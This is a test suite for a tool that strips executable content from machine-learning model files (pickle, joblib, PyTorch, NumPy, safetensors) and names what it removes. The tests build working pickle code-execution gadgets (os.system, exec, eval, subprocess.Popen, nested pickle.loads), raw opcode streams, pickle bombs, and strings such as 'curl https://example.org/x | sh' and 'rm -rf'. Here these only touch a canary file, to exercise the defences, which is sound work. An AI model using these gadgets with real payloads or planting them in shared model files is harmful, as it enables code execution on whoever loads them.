"""Files that act when they are loaded: nothing acts, what is no weapon is carried over, and the rest is named."""

import ast
import contextlib
import json
import os
import pickle
import random
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from safetensors import safe_open
from safetensors.numpy import load_file as load_arrays

import garrison
from garrison.artifacts.disarm import Disarmed, ExaminationError, disarm, flattening, stack
from garrison.artifacts.disarm.rebuilding import rebuild
from garrison.core.errors import LimitExceeded, UsageError
from garrison.core.limits import Limits
from garrison.sources.reader import BytesReader
from garrison.sources.source import Context, Source
from tests.artifacts.pickle.generator import pickles

WEIGHTS = np.arange(4, dtype="f4")


class Calls:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def weapons(canary: Path) -> dict[str, Any]:
    """Objects that write a file when they are unpickled, by what of them is to be named."""
    write = f"open({str(canary)!r}, 'w').close()"
    return {
        "posix.system": Calls(os.system, f"touch {canary}"),
        "builtins.eval": Calls(eval, write),
        "builtins.exec": Calls(exec, write),
        "_pickle.loads": Calls(pickle.loads, pickle.dumps(Calls(exec, write))),
        "builtins.getattr": Calls(getattr, Calls(__import__, "os"), "system"),
        "subprocess.Popen": Calls(subprocess.Popen, ["touch", str(canary)]),
    }


def written(tmp_path: Path, kind: str, weapon: Any) -> Path:
    value = {"weights": WEIGHTS, "epoch": 3, "callback": weapon}
    path = tmp_path / f"model.{kind}"
    match kind:
        case "pkl":
            path.write_bytes(pickle.dumps(value))
        case "joblib":
            joblib.dump(value, path)
        case "gz":
            joblib.dump(value, path, compress=("gzip", 3))
        case "pt" | "pth":
            torch.save(
                {**value, "weights": torch.from_numpy(WEIGHTS)}, path, _use_new_zipfile_serialization=kind == "pt"
            )
        case "npy":
            np.save(path, np.array(value, dtype=object))
        case "npz":
            np.savez(path, plain=WEIGHTS, hostile=np.array(value, dtype=object))
    return path


KINDS = ["pkl", "joblib", "gz", "pt", "pth", "npy", "npz"]


@pytest.mark.parametrize("kind", KINDS)
def test_weights_are_carried_and_weapons_are_named(tmp_path: Path, kind: str) -> None:
    canary = tmp_path / "canary"
    for name, weapon in weapons(canary).items():
        path = written(tmp_path, kind, weapon)
        outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
        found = load_arrays(tmp_path / "out.safetensors")
        key = "hostile.weights" if kind == "npz" else "weights"
        assert found[key].tobytes() == WEIGHTS.tobytes()
        assert any(name.lstrip("_") in one.reason and one.path.endswith("callback") for one in outcome.left)
        assert all(one.place.startswith("@ 0x") for one in outcome.left)
        assert not canary.exists()
    assert garrison.scan(str(tmp_path / "out.safetensors")).decision.allowed


def test_the_weapons_are_live(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    for name in ("posix.system", "builtins.exec", "_pickle.loads"):
        pickle.loads(pickle.dumps(weapons(canary)[name]))
        assert canary.exists()
        canary.unlink()


def test_what_acts_and_is_thrown_away_is_named_all_the_same(tmp_path: Path) -> None:
    shell = b"cposix\nsystem\n(S'true'\ntR0"
    path = tmp_path / "model.pkl"
    path.write_bytes(shell + pickle.dumps({"epoch": 1}, 0))
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert outcome.values == {"epoch": 1}
    assert [(one.path, one.reason, one.place) for one in outcome.left] == [("", "call of posix.system", "@ 0x18")]


def test_arguments_of_calls_give_their_arrays_alone(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps({"x": Calls(os.system, "rm -rf", {"deep": WEIGHTS, "text": "id"})}))
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert list(outcome.tensors) == ["x.arguments.1.deep"]
    assert outcome.values == {}


def test_texts_that_somebody_would_run_are_left(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    value = {
        "template": "{{ cycler.__init__.__globals__ }}",
        "install": "curl https://example.org/x | sh",
        "names": ["a", "import os; os.system('id')"],
        "name": "x",
        "note": "trained for 3 epochs; see docs/README.md (model.eval() first)",
    }
    path.write_bytes(pickle.dumps(value))
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert outcome.values == {"name": "x", "note": value["note"]}
    reasons = {one.path: one.reason for one in outcome.left}
    assert "template" in reasons["template"]
    assert "downloads a program and runs it" in reasons["install"]
    assert "runs commands" in reasons["names"]
    assert not garrison.scan(str(tmp_path / "out.safetensors")).findings


@pytest.mark.parametrize("kind", ["pkl", "joblib"])
def test_where_nothing_is_left_to_carry_no_file_is_written(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"model.{kind}"
    (joblib.dump if kind == "joblib" else _dump)(Calls(os.system, "true"), path)
    with pytest.raises(ExaminationError, match=r"nothing of it can be carried over: call of posix\.system"):
        disarm(str(path), str(tmp_path / "out.safetensors"))
    assert sorted(tmp_path.iterdir()) == [path]


def _dump(value: Any, path: Path) -> None:
    path.write_bytes(pickle.dumps(value))


# ---------------------------------------------------------------- structures


def pickled(*code: bytes) -> bytes:
    return b"\x80\x04" + b"".join(code) + b"."


ARRAY = (
    b"cnumpy._core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR(K\x01%scnumpy\ndtype\n(X\x02\0\0\0f8\x89\x88tR"
    b"(K\x03X\x01\0\0\0<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89C\x08\0\0\0\0\0\0\xf0?tb"
)
ONE = b"X\x01\0\0\0aK\x01s"
"""An entry of a dictionary, so that something can be carried."""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (pickled(b"}\x94", ONE, b"X\x01\0\0\0bh\x00s"), "contains itself"),
        (pickled(b"}]\x94h\x00aX\x01\0\0\0c0", ONE), ""),
        (pickled(b"}", ONE, b"X\x01\0\0\0b", b"]" * 500, b"a" * 499, b"s"), "deep"),
        (pickled(b"}", ONE, b"X\x01\0\0\0b", ARRAY % b"J\xff\xff\xff\x7f\x85", b"s"), "does not fit"),
        (pickled(b"}", ONE, b"X\x01\0\0\0b", ARRAY % b"J\xff\xff\xff\xff\x85", b"s"), "does not fit"),
        (pickled(b"}", ONE, b"X\x01\0\0\0b", ARRAY % (b"(" + b"J\xff\xff\xff\x7f" * 40 + b"t"), b"s"), "does not fit"),
        (pickled(b"}", ONE, b"X\x01\0\0\0bX\x01\0\0\0ccos\nsystem\n\x86X\x01\0\0\0d\x93s"), "computed"),
        (pickled(b"cos\nenviron\n}", ONE, b"b0}", ONE), "change of os.environ itself"),
        (pickled(b"}", ONE, b"X\x01\0\0\0bX\x01\0\0\0pQs"), "outside of the pickle"),
        (pickled(b"}", ONE, b"X\x01\0\0\0b\x82\x05s"), "extension 5"),
        (pickled(b"}", ONE, b"X\x01\0\0\0b\x97s"), "outside of the pickle"),
        (pickled(b"K\x01K\x02a0}", ONE), "no list"),
        (pickled(b"K\x01K\x02K\x03s0}", ONE), "no dictionary"),
    ],
)
def test_odd_structures_are_named(tmp_path: Path, data: bytes, reason: str) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    try:
        outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    except ExaminationError:
        assert not reason
        return
    assert outcome.values["a"] == 1
    assert any(reason in one.reason for one in outcome.left) or not reason


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f",
        b"\x80\x04\x8b\xff\xff\xff\x7f",
        b"\x80\x04cos\n",
        b"\x80\x04h\x05.",
        b"\x80\x04e.",
        b"\x80\x04.",
        b"\x80\x04R.",
        b"\x80\x04\x81.",
        b"\x80\x04(o.",
    ],
)
def test_bombs_and_broken_streams_are_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    with pytest.raises(ExaminationError):
        disarm(str(path), str(tmp_path / "out.safetensors"))
    assert sorted(tmp_path.iterdir()) == [path]


BOMB = b"\x80\x04]\x94" + b"".join(b"]\x94(" + b"h%c" % level * 10 + b"e" for level in range(30)) + b"."


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BOMB, "once shared ones are written out"),
        (b"\x80\x04" + b"(" * 20_000, "values"),
        (b"\x80\x04" + b"]" * 20_000, "values"),
    ],
)
def test_structures_have_a_size(monkeypatch: pytest.MonkeyPatch, data: bytes, reason: str) -> None:
    monkeypatch.setattr(stack, "_PUSHED", 10_000)
    monkeypatch.setattr(flattening, "_VISITS", 10_000)
    with pytest.raises(LimitExceeded, match=reason):
        rebuilt(data)


def checkpoint(path: Path, view: bytes, *, numbers: int = 4, method: int = zipfile.ZIP_STORED) -> Path:
    """A checkpoint with a tensor of the offset, size and strides that `view` pushes, over four floats."""
    data = (
        b"\x80\x02}X\x01\0\0\0aK\x01sX\x01\0\0\0wctorch._utils\n_rebuild_tensor_v2\n"
        b"((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuJ" + struct.pack("<i", numbers) + b"tQ"
        b"" + view + b"\x89}tRs."
    )
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/data/0", bytes(16))
        archive.writestr("archive/code/hidden.py", "import os")
    return path


@pytest.mark.parametrize(
    ("view", "numbers", "reason"),
    [
        (b"K\x00K\x05\x85K\x01\x85", 4, "beyond its storage"),
        (b"K\x01K\x04\x85K\x01\x85", 4, "beyond its storage"),
        (b"K\x00K\x02\x85J\xff\xff\xff\x7f\x85", 4, "beyond its storage"),
        (b"K\x00K\x02\x85J\xff\xff\xff\xff\x85", 4, "shape that is none"),
        (b"K\x00J\xff\xff\xff\xff\x85K\x01\x85", 4, "shape that is none"),
        (b"J\xff\xff\xff\xffK\x02\x85K\x01\x85", 4, "shape that is none"),
        (b"K\x00K\x02\x85K\x01K\x01\x86", 4, "shape that is none"),
        (b"K\x00K\x05\x85K\x01\x85", 5, "fewer bytes"),
        (b"K\x00K\x05\x85K\x01\x85", -5, "_rebuild_tensor_v2"),
        (b"K\x00N(K\x01t", 4, "shape that is none"),
    ],
)
def test_tensors_outside_of_their_storage_are_named(tmp_path: Path, view: bytes, numbers: int, reason: str) -> None:
    path = checkpoint(tmp_path / "model.pt", view, numbers=numbers)
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert outcome.values == {"a": 1}
    assert outcome.tensors == {}
    assert any(reason in one.reason and one.path == "w" for one in outcome.left)
    assert any(one.path == "code/hidden.py" for one in outcome.left)


def test_safetensors_get_a_clean_header(tmp_path: Path) -> None:
    entries = {
        "good": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "beyond": {"dtype": "F32", "shape": [100], "data_offsets": [0, 400]},
        "short": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]},
        "odd": {"dtype": "X9", "shape": [2], "data_offsets": [0, 8]},
        "negative": {"dtype": "U8", "shape": [-1, -8], "data_offsets": [0, 8]},
        "none": 5,
    }
    metadata = {"format": "pt", "note": "kept", "chat": "{{ evil }}", "number": 3}
    header = json.dumps({"__metadata__": metadata, **entries}).encode()
    header = header.replace(b'"odd":', b'"good": {"dtype":"U8","shape":[8],"data_offsets":[0,8]}, "odd":')
    path = tmp_path / "model.safetensors"
    path.write_bytes(struct.pack("<Q", len(header)) + header + struct.pack("<2f", 1, 2) + b"hidden")
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert outcome.tensors == {"good": "U8 [8]"}
    assert {one.path for one in outcome.left} == {
        *("", "good", "beyond", "short", "odd", "negative", "none", "__metadata__.chat", "__metadata__.number")
    }
    with safe_open(tmp_path / "out.safetensors", "np") as file:
        assert file.metadata() == {"format": "pt", "note": "kept"}


def test_a_checkpoint_that_is_cut_off_keeps_what_it_holds(tmp_path: Path) -> None:
    path = tmp_path / "model.pt"
    state = {"w": torch.ones(1000), "x": torch.ones(1000), "n": 3}
    torch.save(state, path, _use_new_zipfile_serialization=False)
    whole = path.read_bytes()
    carried = set()
    for size in range(200, len(whole), 389):
        path.write_bytes(whole[:size])
        with contextlib.suppress(ExaminationError):
            outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
            assert outcome.values == {"n": 3}
            assert {*outcome.tensors, *(one.path for one in outcome.left)} >= {"w", "x"}
            carried.add(len(outcome.tensors))
    assert carried == {0, 1}


def test_repetition_without_end_is_refused(tmp_path: Path) -> None:
    path = checkpoint(tmp_path / "model.pt", b"K\x00J\xff\xff\xff\x7fK\x09\x86K\x00K\x00\x86")
    with pytest.raises(LimitExceeded, match="times as large"):
        disarm(str(path), str(tmp_path / "out.safetensors"))
    assert sorted(tmp_path.iterdir()) == [path]


def test_compressed_storages_are_read(tmp_path: Path) -> None:
    path = checkpoint(tmp_path / "model.pt", b"K\x00K\x04\x85K\x01\x85", method=zipfile.ZIP_DEFLATED)
    assert disarm(str(path), str(tmp_path / "out.safetensors")).tensors == {"w": "F32 [4]"}


@pytest.mark.parametrize("name", ["onnx", "gguf", "text", "empty"])
def test_other_formats_have_nothing_to_disarm(tmp_path: Path, name: str) -> None:
    data = {"onnx": b"\x08\x07\x12\x00", "gguf": b"GGUF" + bytes(20), "text": b"plain words", "empty": b""}[name]
    (tmp_path / "model").write_bytes(data)
    with pytest.raises(ExaminationError, match="nothing to disarm"):
        disarm(str(tmp_path / "model"), str(tmp_path / "out.safetensors"))


def test_the_model_itself_is_not_written_over(tmp_path: Path) -> None:
    model = tmp_path / "model.pkl"
    model.write_bytes(pickle.dumps([1, print]))
    (tmp_path / "link").symlink_to(model)
    for output in (model, tmp_path / "link"):
        with pytest.raises(UsageError, match="is the model itself"):
            disarm(str(model), str(output))
    assert model.read_bytes() == pickle.dumps([1, print])


def test_mistakes_are_the_users(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps({"a": 1}))
    for source, output in [("none", "out"), (".", "out"), ("model.pkl", "none/out"), ("model.pkl", ".")]:
        with pytest.raises(UsageError):
            disarm(str(tmp_path / source), str(tmp_path / output))
    assert sorted(tmp_path.iterdir()) == [path]


def test_time_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps([str(number) for number in range(300_000)]))
    with pytest.raises(LimitExceeded):
        disarm(str(path), str(tmp_path / "out.safetensors"), limits=Limits(seconds=0.02))


# ---------------------------------------------------------------- any bytes


def rebuilt(data: bytes, name: str = "model") -> bytes:
    """All that a worker would send, made in this process."""
    return b"".join(rebuild(Source(name, BytesReader(data)), Context(Limits(), len(data))))


def test_random_pickles_give_a_file_or_a_reason() -> None:
    source = random.Random(4)
    carried = 0
    for _ in range(1500):
        with contextlib.suppress(ExaminationError):
            carried += bool(rebuilt(pickles(source)))
    assert carried > 100


@given(st.data())
def test_damaged_checkpoints_give_a_file_or_a_reason(data: st.DataObject) -> None:
    from tests.support import damaged

    with contextlib.suppress(ExaminationError):
        rebuilt(data.draw(damaged(*SAMPLES)))


def _samples() -> list[bytes]:
    import io

    found = []
    state = {"w": torch.arange(6.0).reshape(2, 3).t(), "n": 3, "o": [1, {"x": (2.5, "t")}]}
    for zipped in (True, False):
        buffer = io.BytesIO()
        torch.save(state, buffer, _use_new_zipfile_serialization=zipped)
        found.append(buffer.getvalue())
    for value in ({"w": WEIGHTS}, np.array([WEIGHTS, "x"], dtype=object)):
        buffer = io.BytesIO()
        joblib.dump(value, buffer)
        found.append(buffer.getvalue())
    buffer = io.BytesIO()
    np.savez_compressed(buffer, a=WEIGHTS, b=np.asfortranarray(np.ones((2, 3))))
    return [*found, buffer.getvalue()]


SAMPLES = _samples()

AUDITED = """
import sys
from pathlib import Path
from tests.artifacts.disarm.test_hostile import rebuilt, ExaminationError
files = [Path(name).read_bytes() for name in sys.argv[1:]]
for data in files[:1] * 2 + files: rebuilt(data)  # imports what it needs
seen = []
sys.addaudithook(lambda event, arguments: seen.append((event, str(arguments)[:200])))
for data in files: rebuilt(data)
eval("1")  # what it would look like
harmless = ("builtins.id", "array.__new__")
header = "(b\\"{'descr'"  # of NumPy's, parsed and no more
print([one for one in seen if one[0] not in harmless and not one[1].startswith(header)])
"""


def test_nothing_is_compiled_imported_opened_or_started(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    paths = []
    for number, weapon in enumerate(weapons(canary).values()):
        (tmp_path / str(number)).mkdir()
        paths += [str(written(tmp_path / str(number), kind, weapon)) for kind in KINDS]
    command = [sys.executable, "-c", AUDITED, *paths]
    told = subprocess.run(command, capture_output=True, text=True, check=True, cwd=Path(__file__).parents[3]).stdout
    assert [event for event, _ in ast.literal_eval(told)] == ["compile", "exec"]
    assert not canary.exists()


def test_a_plain_value_alone_has_a_name(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(b"\x80\x04K\x01K\x02K\x03b.")
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert outcome.values == {"value": 2}
    assert [one.reason for one in outcome.left] == ["state given to what has none"]


def test_the_outcome_tells_what_the_jail_lacks(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps({"a": 1}))
    outcome = disarm(str(path), str(tmp_path / "out.safetensors"))
    assert isinstance(outcome, Disarmed)
    assert all(isinstance(note, str) for note in outcome.notes)
